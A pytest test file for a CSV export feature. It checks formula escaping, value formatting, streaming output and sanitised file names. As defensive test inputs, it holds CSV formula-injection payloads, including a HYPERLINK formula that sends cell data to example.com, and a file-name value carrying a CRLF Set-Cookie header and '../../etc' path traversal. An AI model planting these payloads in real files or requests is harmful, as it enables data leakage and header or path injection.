"""An answer as a CSV file: what stands in its cells, and its name."""

from __future__ import annotations

import csv
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from queryassist.answers import Answer, Status
from queryassist.csv_export import BYTE_ORDER_MARK, csv_lines, file_name
from queryassist.formats import Cell, ResultColumn

NOON = datetime(2025, 6, 30, 12, tzinfo=UTC)
BERLIN = ZoneInfo("Europe/Berlin")
TEXT = ResultColumn(name="name", label="name", kind="text")
PRICE = ResultColumn(name="price", label="price", kind="decimal", symbol="$", prefix=True)
LEVEL = ResultColumn(name="level", label="level", kind="integer", labels=((0, "none"),))
FLAG = ResultColumn(name="flag", label="flag", kind="boolean")
TIME = ResultColumn(name="seen", label="seen", kind="timestamp")


def answer_of(cell: Cell, column: ResultColumn) -> Answer:
    return Answer(
        status=Status.ANSWERED, question="Who?", columns=(column, TEXT), rows=((cell, "x"),)
    )


def first_cell(cell: Cell, column: ResultColumn) -> str:
    text = "".join(csv_lines(answer_of(cell, column), BERLIN))
    _, row = csv.reader(text.splitlines(keepends=True))
    return row[0]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        '=HYPERLINK("http://example.com?"&A1)',
        "＝1",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_not_a_formula(text: str) -> None:
    assert first_cell(text, TEXT) == f"'{text}"


@pytest.mark.parametrize("text", ["Ada", "a=b", "Åsa, née “O'Brien”", "two\nlines", "", "0"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert first_cell(text, TEXT) == text


@pytest.mark.parametrize(
    ("cell", "column", "shown"),
    [
        (-5, PRICE, "-5"),
        (Decimal("-1950.50"), PRICE, "-1950.50"),
        (1_000_000, PRICE, "1000000"),
        (None, PRICE, ""),
        (0, LEVEL, "none"),
        (7, LEVEL, "7"),
        (True, FLAG, "yes"),
        (NOON, TIME, "2025-06-30 14:00:00+02:00"),
    ],
)
def test_numbers_stay_numbers_and_times_have_their_zone(
    cell: Cell, column: ResultColumn, shown: str
) -> None:
    assert first_cell(cell, column) == shown


def test_a_heading_that_a_spreadsheet_would_run_is_not_a_formula() -> None:
    answer = answer_of("x", replace(TEXT, label="=1+1"))

    assert next(csv_lines(answer, BERLIN)) == f"{BYTE_ORDER_MARK}'=1+1,name\r\n"


def test_lines_are_made_one_at_a_time() -> None:
    lines = csv_lines(answer_of("x", TEXT), BERLIN)

    assert [next(lines), next(lines)] == [f"{BYTE_ORDER_MARK}name,name\r\n", "x,x\r\n"]


@pytest.mark.parametrize(
    ("question", "name"),
    [
        ("How many users are in Japan?", "queen-how-many-users-are-in-japan-2025-06-30-1200-utc"),
        ('"\r\nSet-Cookie: a=b; ../../etc', "queen-set-cookie-ab-etc-2025-06-30-1200-utc"),
        ("多少用户？", "queen-2025-06-30-1200-utc"),
    ],
)
def test_a_file_is_named_after_its_question_and_time(question: str, name: str) -> None:
    answer = replace(answer_of("x", TEXT), question=question)

    assert file_name(answer, NOON) == f"{name}.csv"


def test_a_long_question_is_cut_in_the_name_of_the_file() -> None:
    answer = replace(answer_of("x", TEXT), question="why " * 1_000)

    assert len(file_name(answer, NOON)) < 100


def test_the_name_of_a_file_with_missing_rows_says_so() -> None:
    answer = replace(answer_of("x", TEXT), truncated=True)

    assert file_name(answer, NOON) == "queen-who-first-1-rows-2025-06-30-1200-utc.csv"
